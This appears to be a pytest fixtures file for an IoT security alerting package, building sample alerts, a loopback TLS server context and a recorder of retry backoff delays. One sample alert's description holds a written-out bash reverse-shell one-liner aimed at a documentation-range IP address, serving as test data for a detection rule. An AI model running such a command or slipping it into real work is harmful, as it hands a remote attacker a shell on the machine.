"""Fixtures of the output tests: alerts to send, a loopback TLS server context, a sleep recorder."""

from __future__ import annotations

import asyncio
import ssl
from datetime import UTC, datetime, timedelta
from types import MappingProxyType
from typing import Any

import pytest

from iotsec.analytics.alerts import Alert, alert_id
from tests.tls import LoopbackPki

T0 = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
SECRET = "s3cr3t-webhook-key-0123456789"


def make_alert(n: int = 0, **changes: Any) -> Alert:
    """An alert; ``n`` varies its key (and so its id)."""
    fields: dict[str, Any] = {
        "dedup_key": f"IoT_ReverseShell/dev-{n}",
        "rule_id": "IoT_ReverseShell",
        "display_name": "Reverse shell",
        "severity": "High",
        "origin": "rule",
        "device_id": f"dev-{n}",
        "module_id": None,
        "group": "cameras",
        "hub": "/subscriptions/x/IotHubs/h1",
        "description": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "start_time": T0,
        "end_time": T0 + timedelta(minutes=3),
        "count": 2,
        "evidence": ("ev-1:0", "ev-2:0"),
        "evidence_total": 2,
        "status": "Active",
        "updated": T0 + timedelta(minutes=3, seconds=1),
        "properties": MappingProxyType(
            {"Command Line": "bash -i", "Remote Address": "203.0.113.9"}
        ),
        "tactics": ("Execution",),
        "techniques": ("T1059.004",),
    }
    fields.update(changes)
    if "alert_id" not in fields:
        fields["alert_id"] = alert_id(fields["dedup_key"], fields["start_time"])
    return Alert(**fields)


@pytest.fixture
def server_ssl(pki: LoopbackPki) -> ssl.SSLContext:
    """A server context with the throwaway CA's loopback certificate."""
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(pki.server.cert, pki.server.key)
    return context


class Sleeps:
    """Records the backoff delays instead of waiting them out."""

    def __init__(self) -> None:
        self.delays: list[float] = []

    async def __call__(self, seconds: float) -> None:
        self.delays.append(seconds)
        await asyncio.sleep(0)


@pytest.fixture
def sleeps() -> Sleeps:
    return Sleeps()
